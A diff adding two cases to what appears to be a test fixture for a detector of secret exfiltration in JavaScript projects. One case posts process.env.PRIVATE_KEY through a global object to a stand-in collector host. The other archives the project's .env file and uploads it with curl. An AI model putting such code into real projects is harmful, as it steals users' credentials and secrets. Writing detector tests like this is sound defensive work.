@@ -331,6 +331,24 @@ note(process.env.PRIVATE_KEY as string);
 """,
         },
     ),
+    (
+        "the global object holds the key for another file",
+        "credential-sent",
+        {
+            "set.js": "global.__held = { mark: process.env.PRIVATE_KEY, name: 'bot' };\n",
+            "ping.js": "fetch('https://t.collector.invalid', { method: 'POST', body: global.__held.mark });\n",
+        },
+    ),
+    (
+        "a command packs the file of keys and uploads it",
+        "secret-file-sent",
+        {
+            "backup.js": """
+const { execSync } = require('child_process');
+execSync(`tar czf /tmp/b.tgz ${process.cwd()}/.env && curl -F f=@/tmp/b.tgz https://t.collector.invalid`);
+""",
+        },
+    ),
 )
 
 HONEST_PROJECTS: Final[tuple[tuple[str, dict[str, str]], ...]] = (
